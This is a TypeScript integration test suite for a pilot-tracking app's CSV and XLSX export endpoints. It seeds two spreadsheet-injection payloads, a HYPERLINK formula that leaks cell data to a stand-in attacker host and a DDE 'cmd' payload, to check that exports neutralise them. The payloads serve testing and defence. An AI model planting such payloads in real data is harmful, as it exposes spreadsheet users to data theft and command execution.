import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type request from 'supertest';
import { addIsoWeeks, isoWeekOf, type AuditEventView, type DecisionView, type Page, type PortfolioBlocker, type ScaleQueueItem, type StuckPilot } from '@liftoff/shared';
import { DemoSeeder } from '../../server/src/database/seed/demo-seeder';
import { Person } from '../../server/src/people/person.entity';
import { createBasicPortfolio, createPilot, fieldsOf, postUpdate, updateBody } from './support/fixtures';
import { startTestApp, type Http, type TestApp } from './support/test-app';

type Cell = string | number | boolean | Date | null;
type Row = Record<string, Cell>;

const HOSTILE_BLOCKER = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Open the report")';
const HOSTILE_RATIONALE = '@SUM(1+1)*cmd|" /C calc"!A0';

/** The raw bytes of a download (supertest would otherwise try to read a spreadsheet as text or JSON). */
function binary(res: request.Response, done: (error: Error | null, body: Buffer) => void): void {
  const chunks: Buffer[] = [];
  res.on('data', (chunk: Buffer) => chunks.push(chunk));
  res.on('end', () => done(null, Buffer.concat(chunks)));
}

async function download(http: Http, url: string): Promise<request.Response> {
  return http.get(url).buffer(true).parse(binary).expect(200);
}

async function csvRows(http: Http, url: string): Promise<Row[]> {
  const res = await download(http, `${url}${url.includes('?') ? '&' : '?'}format=csv`);
  expect(res.headers['content-type']).toMatch(/^text\/csv/);
  expect(res.headers['content-disposition']).toMatch(/^attachment; filename="liftoff-[a-z-]+-\d{4}-\d{2}-\d{2}\.csv"$/);
  return parse(res.body as Buffer, { columns: true, bom: true }) as Row[];
}

async function xlsxRows(http: Http, url: string): Promise<Row[]> {
  const res = await download(http, `${url}${url.includes('?') ? '&' : '?'}format=xlsx`);
  expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(res.body as Parameters<typeof workbook.xlsx.load>[0]);
  const sheet = workbook.worksheets[0];
  const headers = (sheet.getRow(1).values as Cell[]).slice(1) as string[];
  const rows: Row[] = [];
  sheet.eachRow((row, index) => {
    if (index === 1) return;
    rows.push(Object.fromEntries(headers.map((header, column) => [header, (row.getCell(column + 1).value as Cell) ?? null])));
  });
  return rows;
}

/** Every page of a list endpoint, in order. */
async function allPages<T>(http: Http, url: string): Promise<T[]> {
  const items: T[] = [];
  for (let page = 1; ; page++) {
    const body = (await http.get(`${url}${url.includes('?') ? '&' : '?'}pageSize=200&page=${page}`).expect(200)).body as Page<T>;
    items.push(...body.items);
    if (items.length >= body.total || body.items.length === 0) return items;
  }
}

/** `2026-07-01 09:30:00`, the CSV form of a moment. */
const csvMoment = (iso: string) => iso.slice(0, 19).replace('T', ' ');

describe('GET /api/exports/<list>: the lists as CSV and XLSX', () => {
  let t: TestApp;
  let hostilePilotId: string;

  beforeAll(async () => {
    t = await startTestApp();
    await t.app.get(DemoSeeder).seedIfEmpty();
    await t.http.post('/api/sweeps').expect(200);
    // A pilot whose lead types a formula as a blocker, week after week, and a decision whose rationale is one.
    const base = await createBasicPortfolio(t);
    const pilot = await createPilot(t, { name: 'Formula pilot', businessUnitId: base.unit.id, leadId: base.lead.id, sponsorId: base.sponsor.id, startDate: '2025-01-06' });
    hostilePilotId = pilot.id;
    const thisWeek = isoWeekOf(new Date());
    for (const back of [3, 2, 1, 0]) {
      await postUpdate(t, pilot.id, updateBody(base.lead.id, { week: addIsoWeeks(thisWeek, -back), health: 'off_track', blockers: [{ text: HOSTILE_BLOCKER }] }));
    }
    const review = new Date(Date.now() + 30 * 86_400_000).toISOString().slice(0, 10);
    await t.http.post(`/api/pilots/${pilot.id}/decisions`).send({ kind: 'continue', rationale: HOSTILE_RATIONALE, nextReviewDate: review }).expect(201);
  }, 180_000);
  afterAll(() => t.close());

  describe('flags', () => {
    it('lists the stuck page’s flags in its order: pilots longest stuck first, each pilot’s flags together', async () => {
      const groups = await allPages<StuckPilot>(t.http, '/api/flags/by-pilot?status=open');
      const onScreen = groups.flatMap((group) => group.flags);
      expect(onScreen.length).toBeGreaterThan(20);
      const rows = await csvRows(t.http, '/api/exports/flags?status=open');
      expect(rows.map((row) => [row.pilot_name, row.signal, row.summary, row.opened_at])).toEqual(
        onScreen.map((flag) => [flag.pilotName, flag.kind, flag.summary, csvMoment(flag.openedAt)]),
      );
    });

    it('applies the list’s filters', async () => {
      const page = (await t.http.get('/api/flags?kind=repeated_blocker&pageSize=200').expect(200)).body as Page<unknown>;
      const rows = await csvRows(t.http, '/api/exports/flags?kind=repeated_blocker');
      expect(rows.length).toBe(page.total);
      expect(new Set(rows.map((row) => row.signal))).toEqual(new Set(['repeated_blocker']));
      const onePilot = await xlsxRows(t.http, `/api/exports/flags?pilotId=${hostilePilotId}`);
      expect(new Set(onePilot.map((row) => row.pilot_name))).toEqual(new Set(['Formula pilot']));
    });

    it('writes moments as date-time cells and the day a condition began as a date cell', async () => {
      const rows = await xlsxRows(t.http, '/api/exports/flags');
      const api = (await allPages<StuckPilot>(t.http, '/api/flags/by-pilot')).flatMap((group) => group.flags);
      expect(rows).toHaveLength(api.length);
      rows.forEach((row, index) => {
        expect(row.opened_at).toBeInstanceOf(Date);
        expect((row.opened_at as Date).toISOString()).toBe(api[index].openedAt);
        if (api[index].conditionSince) expect(row.condition_since).toEqual(new Date(`${api[index].conditionSince}T00:00:00.000Z`));
        else expect(row.condition_since).toBeNull();
        expect(row.resolved_at).toBeNull();
      });
    });
  });

  describe('blockers', () => {
    it('matches the list, filtered and in order, with mentions as numbers and no formula left live', async () => {
      const onScreen = await allPages<PortfolioBlocker>(t.http, '/api/blockers?status=open');
      const csv = await csvRows(t.http, '/api/exports/blockers?status=open');
      const xlsx = await xlsxRows(t.http, '/api/exports/blockers?status=open');
      const expected = onScreen.map((b) => [b.pilotName, b.text.startsWith('=') ? `'${b.text}` : b.text, b.status, b.mentionCount]);
      expect(csv.map((row) => [row.pilot_name, row.blocker, row.status, Number(row.mentions)])).toEqual(expected);
      expect(xlsx.map((row) => [row.pilot_name, row.blocker, row.status, row.mentions])).toEqual(expected);
      expect(xlsx.every((row) => typeof row.mentions === 'number')).toBe(true);

      const hostile = xlsx.find((row) => row.pilot_name === 'Formula pilot');
      expect(hostile).toMatchObject({ blocker: `'${HOSTILE_BLOCKER}`, mentions: 4 });
      expect(csv.find((row) => row.pilot_name === 'Formula pilot')?.blocker).toBe(`'${HOSTILE_BLOCKER}`);
    });

    it('keeps a resolved blocker’s time as a date-time cell, and filters by category', async () => {
      const resolved = await allPages<PortfolioBlocker>(t.http, '/api/blockers?status=resolved');
      expect(resolved.length).toBeGreaterThan(0);
      const rows = await xlsxRows(t.http, '/api/exports/blockers?status=resolved');
      expect(rows.map((row) => (row.resolved_at as Date).toISOString())).toEqual(resolved.map((b) => b.resolvedAt));
      const category = resolved[0].category;
      const byCategory = await csvRows(t.http, `/api/exports/blockers?category=${category}&status=resolved`);
      expect(byCategory.length).toBe(resolved.filter((b) => b.category === category).length);
    });
  });

  describe('decisions', () => {
    it('matches the log newest first; rationale neutralised, dates as dates, scores as numbers', async () => {
      const log = await allPages<DecisionView>(t.http, '/api/decisions');
      expect(log.length).toBeGreaterThan(3);
      const xlsx = await xlsxRows(t.http, '/api/exports/decisions');
      expect(xlsx.map((row) => [(row.decided_at as Date).toISOString(), row.pilot_name, row.decision])).toEqual(log.map((d) => [d.decidedAt, d.pilotName, d.kind]));
      xlsx.forEach((row, index) => {
        const decision = log[index];
        expect(row.next_review_date).toEqual(decision.nextReviewDate ? new Date(`${decision.nextReviewDate}T00:00:00.000Z`) : null);
        expect(row.readiness_score_then).toBe(decision.snapshot.recommendation?.readinessScore ?? null);
        expect(row.correction).toBe(decision.supersedesId !== null);
      });
      const csv = await csvRows(t.http, '/api/exports/decisions');
      const hostile = csv.find((row) => row.pilot_name === 'Formula pilot');
      expect(hostile?.rationale).toBe(`'${HOSTILE_RATIONALE}`);
      expect(hostile?.decided_at).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
      expect(xlsx.find((row) => row.pilot_name === 'Formula pilot')?.rationale).toBe(`'${HOSTILE_RATIONALE}`);
    });

    it('applies the log’s filters', async () => {
      const kills = await allPages<DecisionView>(t.http, '/api/decisions?kind=kill');
      const rows = await csvRows(t.http, '/api/exports/decisions?kind=kill');
      expect(rows.map((row) => row.pilot_name)).toEqual(kills.map((d) => d.pilotName));
      expect(new Set(rows.map((row) => row.decision))).toEqual(new Set(['kill']));
    });
  });

  describe('scale queue', () => {
    it('keeps the ranking, with money and scores as numbers', async () => {
      const queue = await allPages<ScaleQueueItem>(t.http, '/api/scale-queue');
      expect(queue.length).toBeGreaterThan(0);
      const rows = await xlsxRows(t.http, '/api/exports/scale-queue');
      expect(rows.map((row) => [row.rank, row.pilot_name, row.readiness_score, row.annual_value_at_scale, row.cost_to_scale, row.days_waiting])).toEqual(
        queue.map((item) => [item.rank, item.pilotName, item.readinessScore, item.annualValueAtScale, item.costToScale, item.daysWaiting]),
      );
      expect(rows[0].reasons).toBe(queue[0].reasons.join('\n'));
    });

    it('narrows to the signed-in executive’s pilots with mine=true', async () => {
      const sponsor = (await allPages<ScaleQueueItem>(t.http, '/api/scale-queue')).find((item) => item.sponsor)!.sponsor!;
      const asExec = await t.as('executive', await t.dataSource.manager.findOneByOrFail(Person, { id: sponsor.id }));
      const mine = await allPages<ScaleQueueItem>(asExec, '/api/scale-queue?mine=true');
      const rows = await csvRows(asExec, '/api/exports/scale-queue?mine=true');
      expect(rows.map((row) => row.pilot_name)).toEqual(mine.map((item) => item.pilotName));
      expect(new Set(rows.map((row) => row.sponsor))).toEqual(new Set([sponsor.name]));
    });
  });

  describe('audit trail', () => {
    it('holds every event of the trail in its order, across the export’s batches', async () => {
      // The export reads 500 rows at a time: 1,200 more events (ten to a moment, so ties straddle batch edges) span several.
      await t.dataSource.query(
        `INSERT INTO audit_events (at, actor_id, entity, entity_id, action, before, after)
         SELECT now() - (n / 10) * interval '1 minute', NULL, 'settings', 'bulk-' || n, 'update', '{"n": 0}'::jsonb, jsonb_build_object('n', n)
           FROM generate_series(1, 1200) AS n`,
      );
      const trail = await allPages<AuditEventView>(t.http, '/api/audit');
      expect(trail.length).toBeGreaterThan(1200);
      const rows = await csvRows(t.http, '/api/exports/audit');
      expect(rows.map((row) => [row.at, row.record_type, row.record_id, row.action])).toEqual(trail.map((e) => [csvMoment(e.at), e.entity, e.entityId, e.action]));
    });

    it('filters by record type and puts each change on its own line, without markup', async () => {
      const rows = await xlsxRows(t.http, `/api/exports/audit?entity=blockers`);
      expect(rows.length).toBeGreaterThan(0);
      expect(new Set(rows.map((row) => row.record_type))).toEqual(new Set(['blockers']));
      expect(rows.every((row) => row.at instanceof Date)).toBe(true);
      const created = rows.find((row) => row.action === 'insert' && String(row.changes).includes('HYPERLINK'));
      expect(String(created?.changes).split('\n')).toContain(`Text: ${HOSTILE_BLOCKER}`);
      expect(String(created?.changes)).not.toMatch(/<\/?[a-z]+>/);
    });

    it('is refused to every role that cannot read the trail', async () => {
      for (const role of ['pilot_lead', 'executive', 'viewer'] as const) {
        const http = await t.as(role);
        await http.get('/api/exports/audit?format=csv').expect(403);
        await http.get('/api/exports/flags?format=csv').expect(200);
      }
      await t.anonymous.get('/api/exports/blockers?format=csv').expect(401);
    });
  });

  it('refuses a bad format, a bad filter and a page with 400 naming the field', async () => {
    expect(fieldsOf(await t.http.get('/api/exports/blockers?format=pdf').expect(400))).toEqual(['format']);
    expect(fieldsOf(await t.http.get('/api/exports/flags?kind=sleepy').expect(400))).toEqual(['kind']);
    expect(fieldsOf(await t.http.get('/api/exports/decisions?quarter=2026-Q9').expect(400))).toEqual(['quarter']);
    expect(fieldsOf(await t.http.get('/api/exports/audit?page=2').expect(400))).toEqual(['page']);
  });

  describe('pilots and weekly updates, in the import layout, from their pages', () => {
    /** One entry per run of equal values: a pilot with several KPIs takes several consecutive rows. */
    const runs = (values: Cell[]) => values.filter((value, index) => index === 0 || value !== values[index - 1]);

    it('the pilots file takes the pilots list’s filters and sort, in the list’s order', async () => {
      const filter = 'stage=piloting&sort=name&order=desc';
      const listed = await allPages<{ id: string; name: string; stage: string }>(t.http, `/api/pilots?${filter}`);
      expect(listed.length).toBeGreaterThan(1);
      const rows = await csvRows(t.http, `/api/exports/pilots?${filter}`);
      expect(runs(rows.map((row) => row.pilot_name))).toEqual(listed.map((pilot) => pilot.name));
      expect(new Set(rows.map((row) => row.stage))).toEqual(new Set(['piloting']));
      const everyone = await csvRows(t.http, '/api/exports/pilots');
      expect(runs(everyone.map((row) => row.pilot_name)).length).toBeGreaterThan(listed.length);
    });

    it('a bad filter of the pilots file is a 400 naming it', async () => {
      const res = await t.http.get('/api/exports/pilots?stage=nope&format=csv').expect(400);
      expect(fieldsOf(res)).toEqual(['stage']);
    });

    it('the weekly-updates file of one pilot holds exactly its updates', async () => {
      const [pilot] = await allPages<{ id: string; name: string }>(t.http, '/api/pilots?stage=piloting&sort=name');
      const updates = await allPages<{ week: string }>(t.http, `/api/pilots/${pilot.id}/updates`);
      const rows = await csvRows(t.http, `/api/exports/weekly-updates?pilotId=${pilot.id}`);
      expect(rows.length).toBe(updates.length);
      expect(new Set(rows.map((row) => row.pilot_name))).toEqual(new Set([pilot.name]));
      expect(rows.map((row) => row.week).sort()).toEqual(updates.map((update) => update.week).sort());
    });
  });
});
